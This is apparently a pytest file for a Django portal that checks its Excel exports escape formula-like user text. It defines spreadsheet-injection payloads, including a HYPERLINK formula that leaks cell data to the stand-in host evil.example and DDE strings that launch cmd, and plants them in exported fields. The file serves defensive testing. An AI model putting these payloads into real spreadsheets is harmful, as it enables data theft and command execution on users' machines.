"""Text people typed never becomes a formula in an xlsx the portal writes.

Each export is downloaded with hostile text in the fields it writes, read back with openpyxl
and unzipped: no cell holds a formula, and every cell starting like one is text with Excel's
quote prefix (shown and re-imported exactly as typed, and still text when edited in Excel).
"""
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from activities.factories import ActivityFactory, HeldMeetingFactory
from activities.models import Attendance
from kernel.xlsx import FORMULA_STARTS
from members import excel
from members.factories import MemberFactory
from pairing.factories import ContributionFactory, UnitFactory
from portal.factories import RectificationFactory

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
ROOT = Path(__file__).resolve().parents[2]


def assert_no_formulas(content, *expected):
    """No <f> element in any sheet; each cell starting like a formula is quote-prefixed text;
    each expected text is there, unchanged."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", package.read(name)), name
    book = load_workbook(io.BytesIO(content))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    texts.add(cell.value)
    assert set(expected) <= texts, set(expected) - texts


def test_record_book(world, client_as):
    absent = MemberFactory(branch=world.branch)
    meeting = HeldMeetingFactory(branch=world.branch, topic=LINK, place=DDE, host=PLUS,
                                 recorder=MINUS, minutes=AT, attendees=[absent])
    Attendance.objects.filter(meeting=meeting).update(status="absent", reason=TAB)
    local = timezone.localtime(meeting.starts_at)
    response = client_as(world.users["secretary"]).get(reverse(
        "activities:record_book_xlsx",
        args=[world.branch.pk, local.year, (local.month + 2) // 3]))
    assert response.status_code == 200
    assert_no_formulas(response.content, LINK, DDE, PLUS, MINUS, AT)


def test_roster_export_and_export_for_import(world, client_as):
    MemberFactory(branch=world.branch, name=AT, address=LINK, employer_name=DDE, phone=PLUS)
    client = client_as(world.users["staff"])
    for response in [client.get(reverse("members:export")),
                     client.post(reverse("members:export_for_import"))]:
        assert response.status_code == 200
        assert_no_formulas(response.content, AT, LINK, DDE, PLUS)


def test_the_export_for_import_reads_back_exactly_as_it_was(world):
    """Escaping must not change a value: the corrected file is imported again."""
    MemberFactory(branch=world.branch, address=LINK, employer_name=MINUS)
    content = excel.export_workbook(world.branch.members.all(), full_id_numbers=True)
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    address, employer = excel.HEADERS.index(excel.HEADER_OF["address"]), excel.HEADERS.index(excel.HEADER_OF["employer_name"])
    assert {(row[address], row[employer]) for row in rows[1:]} >= {(LINK, MINUS)}


def test_failed_rows_of_a_hostile_import_file(world, client_as, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    book = Workbook()
    book.active.append(excel.HEADERS)
    row = [""] * len(excel.HEADERS)
    row[excel.HEADERS.index(excel.HEADER_OF["name"])] = LINK
    row[excel.HEADERS.index(excel.HEADER_OF["address"])] = DDE
    row[excel.HEADERS.index(excel.HEADER_OF["id_number"])] = "not an id"
    book.active.append(row)
    for cell in book.active[2]:
        cell.data_type = "s"  # typed as text in the file: what the import reads back
    buffer = io.BytesIO()
    book.save(buffer)
    client = client_as(world.users["staff"])
    client.post(reverse("members:import_upload"),
                {"file": SimpleUploadedFile("名册.xlsx", buffer.getvalue())})
    response = client.get(reverse("members:import_failed_rows"))
    assert response.status_code == 200
    assert_no_formulas(response.content, LINK, DDE)


def test_monthly_report(world, client_as):
    day = timezone.localdate().replace(day=1)
    when = timezone.make_aware(timezone.datetime.combine(day, timezone.datetime.min.time()))
    HeldMeetingFactory(branch=world.branch, topic=LINK, starts_at=when)
    ActivityFactory(community=world.community, title=DDE, held_on=day)
    ContributionFactory(community=world.community, given_on=day, description=PLUS)
    RectificationFactory(inspection__point__community=world.community, inspection__problem=AT)
    response = client_as(world.users["official"]).get(
        reverse("dashboards:monthly_report_xlsx", args=[world.street.pk]),
        {"month": f"{day:%Y-%m}"})
    assert response.status_code == 200
    assert_no_formulas(response.content, LINK, DDE, PLUS, AT)


def test_unit_feedback_report(world, client_as):
    from activities.services import activity_save

    unit = UnitFactory(street=world.street, communities=[world.community], name="区人民医院")
    worker = MemberFactory(branch=world.branch, employer_unit=unit, name=LINK)
    activity_save(activity=ActivityFactory.build(community=world.community,
                                                 held_on=date(2025, 5, 4)),
                  participants=[(worker, 3)])
    response = client_as(world.users["staff"]).get(
        reverse("pairing:unit_report_xlsx", args=[unit.pk]),
        {"start": "2025-01-01", "end": "2025-12-31"})
    assert response.status_code == 200
    assert_no_formulas(response.content, LINK)


def test_every_workbook_is_written_through_the_one_helper():
    """A new export cannot forget the escaping: only kernel/xlsx.py makes workbooks."""
    allowed = {ROOT / "kernel" / "xlsx.py",
               # Writes a test file for the import benchmark, never served to anybody.
               ROOT / "bench" / "management" / "commands" / "bench_import.py"}
    pattern = re.compile(r"\bimport xlsxwriter\b|from openpyxl import .*\bWorkbook\b|"
                         r"openpyxl\.Workbook\(|\.save\((buffer|output|out)\)")
    offenders = [str(path.relative_to(ROOT))
                 for app in ["kernel", "portal", "members", "activities", "organizations",
                             "pairing", "bench"]
                 for path in (ROOT / app).rglob("*.py")
                 if path not in allowed and pattern.search(path.read_text(encoding="utf-8"))]
    assert offenders == []
